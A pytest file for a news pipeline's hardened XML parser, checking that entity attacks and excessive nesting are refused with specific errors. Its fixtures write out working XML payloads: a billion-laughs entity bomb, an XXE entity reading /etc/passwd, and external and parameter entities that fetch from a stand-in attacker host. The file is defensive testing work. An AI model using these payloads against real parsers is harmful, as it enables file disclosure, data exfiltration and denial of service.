"""Hostile and broken XML is refused with the specific error, never expanded or fetched."""

import pytest

from pipeline.errors import PermanentError
from pipeline.formats import parse_bytes
from pipeline.formats.xmlsafe import parse_xml
from tests.formats.xmlcases import sample_path


def _lol_entities(levels: int = 9) -> bytes:
    declarations = [b'<!ENTITY l0 "lol">']
    for level in range(1, levels + 1):
        refs = b"".join(b"&l%d;" % (level - 1) for _ in range(10))
        declarations.append(b'<!ENTITY l%d "%s">' % (level, refs))
    return b"<!DOCTYPE nitf [" + b"".join(declarations) + b"]>"


BILLION_LAUGHS = (
    _lol_entities() + b"<nitf><body><body.content><p>&l9;</p></body.content></body></nitf>"
)
FILE_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE nitf [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<nitf><body><body.content><p>&xxe;</p></body.content></body></nitf>"
)
HTTP_ENTITY = (
    b'<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "http://attacker.invalid/secret">]>'
    b'<newsItem guid="x"><contentSet><inlineXML>&xxe;</inlineXML></contentSet></newsItem>'
)
EXTERNAL_DTD = (
    b'<!DOCTYPE nitf SYSTEM "http://attacker.invalid/evil.dtd">'
    b"<nitf><body><body.content><p>&ent;</p></body.content></body></nitf>"
)
PARAMETER_ENTITY = (
    b'<!DOCTYPE nitf [<!ENTITY % remote SYSTEM "http://attacker.invalid/p.dtd"> %remote;]><nitf/>'
)
# A long comment first, so that the DOCTYPE is far from the start of the file.
LATE_LAUGHS = b"<!--" + b"x" * 100_000 + b"-->" + BILLION_LAUGHS


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, FILE_ENTITY, HTTP_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, LATE_LAUGHS],
    ids=["billion-laughs", "file-entity", "http-entity", "external-dtd", "parameter-entity",
         "late-doctype"],
)  # fmt: skip
def test_entity_attacks_are_unsafe_input(data):
    with pytest.raises(PermanentError) as raised:
        parse_xml(data)
    assert raised.value.kind == "unsafe_input"
    assert "lollol" not in str(raised.value)
    assert "root:" not in str(raised.value)


@pytest.mark.parametrize("data", [BILLION_LAUGHS, FILE_ENTITY, HTTP_ENTITY])
def test_attacks_are_refused_through_the_registry_naming_the_file(data):
    with pytest.raises(PermanentError) as raised:
        parse_bytes(data, "attack.xml")
    assert (raised.value.kind, raised.value.file) == ("unsafe_input", "attack.xml")


def test_entities_in_attributes_are_not_expanded_either():
    data = _lol_entities() + b'<nitf baselang="&l9;"/>'
    with pytest.raises(PermanentError) as raised:
        parse_xml(data)
    assert raised.value.kind == "unsafe_input"


def test_external_dtd_entity_is_reported_as_undefined_not_loaded():
    with pytest.raises(PermanentError) as raised:
        parse_xml(EXTERNAL_DTD)
    assert "never" in raised.value.message


@pytest.mark.parametrize("depth", [201, 5000])
def test_deep_nesting_is_unsafe_input(depth):
    data = b"<nitf>" + b"<p>" * depth + b"</p>" * depth + b"</nitf>"
    with pytest.raises(PermanentError) as raised:
        parse_xml(data, max_depth=200)
    assert raised.value.kind == "unsafe_input"
    assert "nested deeper than" in raised.value.message


def test_configured_depth_limit_is_named():
    with pytest.raises(PermanentError) as raised:
        parse_xml(b"<a>" * 11 + b"</a>" * 11, max_depth=10)
    assert raised.value.message == "XML nested deeper than 10 levels"


def test_nesting_within_the_limit_parses():
    assert parse_xml(b"<a>" * 150 + b"</a>" * 150, max_depth=200).tag == "a"


def test_truncated_xml_names_line_and_column():
    data = sample_path("fixtures/nitf-embargoed-correction.xml").read_bytes()
    with pytest.raises(PermanentError) as raised:
        parse_bytes(data[: len(data) // 2], "truncated.xml")
    assert raised.value.kind == "malformed_xml"
    assert "line " in raised.value.message
    assert "column " in raised.value.message
    assert raised.value.file == "truncated.xml"


def test_doctype_naming_an_external_dtd_still_parses_without_loading_it():
    data = sample_path("fixtures/nitf-embargoed-correction.xml").read_bytes()
    assert b'<!DOCTYPE nitf SYSTEM "nitf.dtd">' in data
    assert (
        parse_bytes(data, "story.xml")[0].headline == "Fishing fleet returns early as storm nears"
    )
